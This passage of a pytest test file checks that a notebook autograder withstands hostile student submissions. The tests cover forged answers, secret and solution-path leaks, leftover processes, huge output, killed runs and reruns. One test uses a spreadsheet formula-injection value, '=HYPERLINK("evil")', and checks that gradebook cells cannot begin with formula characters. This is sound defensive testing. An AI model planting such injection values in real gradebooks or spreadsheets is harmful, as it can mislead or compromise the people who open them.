    assert [r.student for r in hostile["results"]] == sorted(s.name for s in CLASS)
    assert all(r.isolated for r in hostile["results"])


def test_every_forger_scores_zero(hostile):
    scored = {name: [q.points for q in result_of(hostile, name).questions] for name in FORGERS}
    cheated = {name: p for name, p in scored.items() if any(p)}
    assert cheated == {}, f"forgers with points: {cheated}"


def test_every_honest_student_keeps_their_points(hostile):
    for student in CLASS:
        if not student.forger:
            result = result_of(hostile, student.name)
            got = [q.points for q in result.questions]
            assert got == student.points, (student.name, [q.message for q in result.questions], result.notes)
    blank = result_of(hostile, "honest_blank")
    assert all("not attempted" in q.message for q in blank.questions)


def test_no_secret_reaches_any_output_file(hostile):
    secrets_ = {"hidden literal": HIDDEN_TAG, "hidden constant": SECRET_LITERAL,
                "environment secret": hostile["secret"], "solution path": str(hostile["solution"]),
                "solution folder": hostile["solution"].parent.name, "forged text": "FOR" + "GED"}
    leaks = [(path, what) for path, data in output_files(hostile["out"]).items()
             for what, text in secrets_.items() if text.encode() in data]
    assert leaks == [], f"secrets in the output folder: {leaks}"


def test_no_process_outlives_the_run_and_nothing_is_overwritten(hostile):
    assert hostile["survivors"] == {}, f"processes left by the students: {hostile['survivors']}"
    assert wait_until_gone(hostile["marker"], limit=0) == {}
    assert {p.name: p.read_bytes() for p in hostile["subs"].iterdir()} == hostile["before"]
    assert (hostile["out"] / "gradebook.csv").read_bytes() == hostile["book"]
    assert result_of(hostile, "honest_full").questions[0].points == 2  # graded after detach


def test_the_run_time_is_bounded(hostile):
    print(f"hostile class: {hostile['elapsed']:.1f} s")
    assert hostile["elapsed"] < 240  # about 40 s of CPU time: 25 s on two idle cores


def test_huge_output_is_truncated_with_a_note(hostile):
    for name in ("huge_output", "huge_bypass"):
        executed = hostile["out"] / "executed" / f"{result_of(hostile, name).stem}.ipynb"
        assert executed.stat().st_size < 5_000_000, name
        assert re.search(r"truncated|not kept", executed.read_text(encoding="utf-8")), name  # a note
    assert sum(len(d) for d in output_files(hostile["out"]).values()) < 20_000_000


def test_names_never_collide_or_become_formulas(hostile):
    results = hostile["results"]
    stems = [r.stem for r in results]
    assert len(set(stems)) == len(stems)
    assert all(not set(s) & set('/\\:*?"<>|') for s in stems)
    feedback = {r.student: (hostile["out"] / "feedback" / f"{r.stem}.md") for r in results}
    assert all(path.is_file() for path in feedback.values())
    assert feedback["a:b"].read_bytes() != feedback["a_b"].read_bytes()
    _, _, rows = gradebook(hostile["out"])
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row)
    assert csv_cell('=HYPERLINK("evil")') in {row[0] for row in rows}


def test_a_notebook_beside_a_pdf_is_one_student_with_a_note(hostile):
    assert [r.student for r in hostile["results"] if r.student.startswith("alice")] == ["alice"]
    assert any("alice.pdf" in note for note in result_of(hostile, "alice").notes)


def test_deeply_nested_json_is_reported_as_invalid(hostile):
    deep = result_of(hostile, "deep")
    assert [q.points for q in deep.questions] == [0, 0, 0]
    assert any("not valid notebook JSON" in note for note in deep.notes), deep.notes
    assert not any("internal" in note.lower() for note in deep.notes), deep.notes


def test_a_pasted_copy_of_a_check_cell_does_not_replace_the_real_one(hostile):
    assert [q.points for q in result_of(hostile, "dup_check").questions] == FULL


# --------------------------------------------------------------------------
# The grader's own command killed
# --------------------------------------------------------------------------


def small_class(root: Path, students: list[Student], marker: str = "") -> tuple[Path, Path, Path]:
    solution, exercise = make_assignment(root)
    for student in students:
        ctx = attack_context(root, student.file, marker, solution)
        write_notebook(student_notebook(exercise, student, ctx), root / "submissions" / student.file)
    return solution, root / "submissions", root / "out"


def test_a_killed_grader_leaves_no_process_behind(tmp_path):
    marker = "dgmloop" + secrets.token_hex(4)  # 15 characters: fits a process name
    solution, subs, out = small_class(tmp_path, [Student("looper.ipynb", NONE, {}, LOOPER)], marker)
    with open(tmp_path / "grader.log", "wb") as log:
        grader = subprocess.Popen(grade_command(solution, subs, out, "--cell-timeout", "60", "--timeout", "120"),
                                  cwd=tmp_path, env=command_env(), stdout=log, stderr=subprocess.STDOUT,
                                  start_new_session=True)
    try:
        deadline = time.monotonic() + 60
        while not live_processes(marker) and grader.poll() is None and time.monotonic() < deadline:
            time.sleep(0.2)
        time.sleep(1.0)  # the kernel is looping by now
        assert len(live_processes(marker)) == 2, (tmp_path / "grader.log").read_text(errors="replace")
        os.kill(grader.pid, signal.SIGKILL)  # the grader alone, as a CI timeout or `kill -9` would
        grader.wait()
        assert wait_until_gone(marker, str(tmp_path), limit=10) == {}
    finally:
        kill_all(marker, str(tmp_path))
        try:
            os.killpg(grader.pid, signal.SIGKILL)
        except OSError:
            pass


def test_a_run_that_dies_keeps_what_it_had_and_a_rerun_grades_only_the_rest(tmp_path):
    students = [Student("a_full.ipynb", FULL, RIGHT), Student("b_partial.ipynb", [2, 0, 1],
                                                              {**RIGHT, "mean": WRONG["mean"]}),
                Student("c_blank.ipynb", NONE),
                Student("d_slow.ipynb", FULL, RIGHT, after="import time\ntime.sleep(3)")]
    solution, subs, out = small_class(tmp_path, students)
    command = grade_command(solution, subs, out, "--cell-timeout", "10", "--timeout", "60", "--jobs", "1")
    with open(tmp_path / "first.log", "wb") as log:
        first = subprocess.Popen(command, cwd=tmp_path, env=command_env(), stdout=log,
                                 stderr=subprocess.STDOUT, start_new_session=True)
    try:
        deadline = time.monotonic() + 90
        while not list(out.glob("results/*.json")) and first.poll() is None and time.monotonic() < deadline:
            time.sleep(0.05)
        if first.poll() is None:
            os.kill(first.pid, signal.SIGKILL)
        first.wait()
        assert wait_until_gone(str(tmp_path), limit=10) == {}
    finally:
        kill_all(str(tmp_path))
    finished = {p.stem: p.stat().st_mtime_ns for p in out.glob("results/*.json")}
    assert 1 <= len(finished) < len(students), (tmp_path / "first.log").read_text(errors="replace")
    assert (out / "gradebook.csv").is_file(), "the gradebook must be written as each student finishes"
    assert gradebook(out)[1] == expected_table(students, finished)

    rerun = subprocess.run(command, check=False, cwd=tmp_path, env=command_env(), capture_output=True, text=True,
                           timeout=300)
    assert rerun.returncode == 0, rerun.stdout + rerun.stderr
    assert {p.stem: p.stat().st_mtime_ns for p in out.glob("results/*.json") if p.stem in finished} == finished
    assert sorted(p.stem for p in out.glob("results/*.json")) == [s.name for s in students]
    assert gradebook(out)[1] == expected_table(students)
